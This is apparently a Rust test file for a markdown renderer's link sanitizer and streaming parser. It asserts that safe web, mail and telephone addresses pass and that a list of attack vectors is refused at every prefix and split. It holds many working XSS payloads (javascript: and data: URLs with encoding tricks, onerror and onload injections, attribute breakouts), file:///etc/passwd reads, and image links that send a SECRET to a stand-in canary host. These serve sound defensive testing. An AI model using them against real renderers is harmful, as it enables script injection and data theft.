//! Addresses: what may be followed, what may not, and that no vector gets through at any prefix.
//! The numbers are the groups of the list of test vectors that the project's security rules came with.

use crate::tree::{check, outline};
use iris_core::markdown::{Document, Kind, Node, SafeUrl, parse};

fn safe(raw: &str, expected: &str, host: Option<&str>) {
    let url = SafeUrl::parse(raw).unwrap_or_else(|| panic!("{raw:?} is refused"));
    assert_eq!(url.as_str(), expected, "{raw:?}");
    assert_eq!(url.host(), host, "{raw:?}");
    assert_eq!(SafeUrl::parse(expected).as_ref(), Some(&url), "{expected:?} does not read back");
}

#[test]
fn addresses_of_the_web_are_safe() {
    safe("https://a.example", "https://a.example", Some("a.example"));
    safe("HTTP://A.Example:8080/b?c=d#e", "http://a.example:8080/b?c=d#e", Some("a.example"));
    safe(
        " \u{1}https://a.example/b c\"<>`\\\u{c}",
        "https://a.example/b%20c%22%3C%3E%60%5C",
        Some("a.example"),
    );
    safe("ht\ntps:/\t/a.exa\rmple", "https://a.example", Some("a.example"));
    safe(
        "https://bücher.example/ü?ü",
        "https://xn--bcher-kva.example/%C3%BC?%C3%BC",
        Some("xn--bcher-kva.example"),
    );
    safe("https://a.example/\u{202e}gnp.exe", "https://a.example/%E2%80%AEgnp.exe", Some("a.example"));
    safe("http://[::1]:80/", "http://[::1]:80/", Some("[::1]"));
    safe("http://127.0.0.1:/x", "http://127.0.0.1/x", Some("127.0.0.1"));
    safe("https://a.example?b@c", "https://a.example?b@c", Some("a.example"));
    safe("https://a.example#b@c", "https://a.example#b@c", Some("a.example"));
}

#[test]
fn mail_telephone_and_anchors_are_safe() {
    safe("mailto:a@b.example?subject=x y", "mailto:a@b.example?subject=x%20y", None);
    safe("TEL:+49 (30) 1234-5", "tel:+49(30)1234-5", None);
    safe("#a-heading_1.b", "#a-heading_1.b", None);
    safe("#__proto__", "#__proto__", None);
    assert_eq!(SafeUrl::parse("#größe").as_ref().map(SafeUrl::as_str), Some("#gr%C3%B6%C3%9Fe"));
}

#[test]
fn everything_else_is_refused() {
    for raw in [
        // Other schemes, however they are hidden.
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        "\u{1}javascript:alert(1)",
        " \t javascript:alert(1)",
        "java%0ascript:alert(1)",
        "vbscript:x",
        "data:text/html,<script>alert(1)</script>",
        "data:image/png;base64,AA",
        "blob:https://a.example/x",
        "file:///etc/passwd",
        "filesystem:https://a.example/x",
        "intent://a.example#Intent;end",
        "ws://a.example",
        "view-source:https://a.example",
        ":https://a.example",
        // No scheme.
        "",
        " ",
        "/path",
        "path",
        "?query",
        "a.example",
        "www.a.example",
        "//a.example/p",
        "/\\a.example",
        "\\\\a.example",
        // An authority that readers disagree about.
        "https:a.example",
        "https:/a.example",
        "https:///a.example",
        "https:\\\\a.example",
        "https://",
        "https:///",
        "https://?q",
        "https://:80/",
        "https://good.example@evil.example/",
        "https://user:password@a.example/",
        "https://good.example\\@evil.example/",
        "https://good.example\\.evil.example/",
        "https://good.example:80@evil.example/",
        "https://a.example:99999/",
        "https://a.example:x/",
        "https://a.example:+80/",
        "https://ex%61mple.com/",
        "https://a b.example/",
        "https://good.example／evil.example",
        "https://good.example\u{200b}.evil.example/",
        "https://[::1/",
        "https://[::1]x/",
        // Control characters inside.
        "https://a.example/\u{7f}",
        "https://a.example/\0x",
        "https://a.example/\u{85}",
        "https://a.exa\u{1}mple/",
        // Mail with the reader's files, telephone commands, the app's own fragments.
        "mailto:",
        "mailto:a",
        "mailto://a@b.example",
        "mailto:a@b.example?attach=/etc/passwd",
        "mailto:a@b.example?ATTACHMENT=x",
        "tel:",
        "tel:*21*123#",
        "tel:+1;ext=2",
        "#pair=token",
        "#gateway=wss://evil.example",
        "#/route",
        "#a b",
    ] {
        assert_eq!(SafeUrl::parse(raw), None, "{raw:?}");
    }
}

#[test]
fn a_link_shows_when_its_text_names_another_host() {
    check("[good.com](https://evil.example)", "p(link https://evil.example (claims another)('good.com'))");
    check("[**good**.com/x](https://good.com)", "p(link https://good.com(strong('good') '.com/x'))");
    check("https://a.example/b", "p(link https://a.example/b('https://a.example/b'))");
    check("www.a.example", "p(link http://www.a.example('www.a.example'))");
    check("me@a.example", "p(link mailto:me@a.example('me@a.example'))");
    check("<https://a.example>", "p(link https://a.example('https://a.example'))");
    check("[a](<https://good.example@evil.example>)", "p('a')");
}

#[test]
fn an_unsafe_link_is_its_text() {
    check("a [b *c* d](javascript:x) e", "p('a b ' em('c') ' d e')");
    check("<javascript:alert(1)>", "p('javascript:alert(1)')");
    check("[a](/relative) [b](#anchor)", "p('a ' link #anchor('b'))");
}

#[test]
fn an_unfinished_link_is_text() {
    check(
        "[a](https://good.example/long",
        "p('[a](' link https://good.example/long('https://good.example/long'))",
    );
    check("[a][b", "p('[a][b')");
}

/// Groups 1 to 8, as a model would write them.
const VECTORS: &[&str] = &[
    // 1
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "a <script>alert(1)</script> b",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    // 2
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](&#1;javascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript://a.example/%0aalert(1))",
    // 3
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](<data:text/html,<b>>)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<data:text/html,x>",
    "[x](vbscript:msgbox(1))",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](intent://a#Intent;scheme=http;end)",
    // 4
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[a]: javascript:alert(1) 'title'\n\n[x][a] [a][] [a]",
    "![x][img]\n\n[img]: https://canary.example/?q=SECRET",
    "x[^1]\n\n[^1]: [y](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)> <vbscript:x> <data:x>",
    "www.canary.example/?q=SECRET javascript://www.canary.example",
    // 5
    "![x](https://canary.example/p.png?d=SECRET)",
    "![x](//canary.example/p)",
    "![x](http://127.0.0.1:8080/p)",
    "<img srcset=https://canary.example/p>",
    "<link rel=prefetch href=https://canary.example>",
    // 6
    "[x](https://a.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://a.example/\\\"onmouseover=alert(1)//)",
    "[x](<https://a.example/\" onmouseover=\"alert(1)>)",
    "![\" onerror=alert(1) \"](https://a.example)",
    "![x](https://a.example '\"><script>alert(1)</script>')",
    // 7
    "```js\" onload=\"alert(1)\nx\n```",
    "```\"><img src=x onerror=alert(1)>\nx\n```",
    // 8
    "# innerHTML\n\n| <form name=body> |\n|---|\n| [x](#__proto__) |",
    // 11
    "[x](https://a.example/\u{202e}gnp.exe) \u{200d}\u{e0041}\0",
];

/// Nothing but what is allowed, told apart here by other means than the parser's own.
fn assert_harmless(nodes: &[Node]) {
    for node in nodes {
        match &node.kind {
            Kind::Link { url, .. } => {
                assert_harmless_address(url.as_str(), &["https://", "http://", "mailto:", "tel:", "#"])
            }
            Kind::Image { source: Some(url), .. } => {
                assert_harmless_address(url.as_str(), &["https://", "http://"])
            }
            Kind::CodeBlock { lang, .. } => {
                assert!(lang.chars().all(|c| c.is_ascii_alphanumeric() || "+-#._".contains(c)), "{lang:?}");
            }
            _ => {}
        }
        assert_harmless(&node.children);
    }
}

fn assert_harmless_address(url: &str, schemes: &[&str]) {
    assert!(schemes.iter().any(|scheme| url.starts_with(scheme)), "{url:?}");
    assert!(url.chars().all(|c| c.is_ascii_graphic() && !"\"<>`\\".contains(c)), "{url:?}");
}

#[test]
fn no_vector_gets_through_at_any_prefix_or_split() {
    for vector in VECTORS {
        let mut document = Document::new();
        for char in vector.chars() {
            document.push(char.encode_utf8(&mut [0; 4]));
            assert_harmless(document.blocks());
            assert_eq!(document.blocks(), parse(document.text()), "{vector:?}");
        }
        for (at, _) in vector.char_indices() {
            let mut document = Document::new();
            document.push(&vector[..at]);
            document.push(&vector[at..]);
            assert_harmless(document.blocks());
            assert_eq!(document.blocks(), parse(vector), "{vector:?}");
        }
    }
}

#[test]
fn the_vectors_of_scripts_make_no_link_at_all() {
    for vector in VECTORS.iter().filter(|vector| vector.contains("script") || vector.contains("](data")) {
        let tree = outline(&parse(vector));
        let addresses = tree.split("link ").skip(1).filter_map(|link| link.split('(').next());
        let is_of_the_web = |address: &str| address.starts_with("http") && !address.contains("script");
        assert!(addresses.into_iter().all(is_of_the_web), "{vector:?}: {tree}");
    }
}
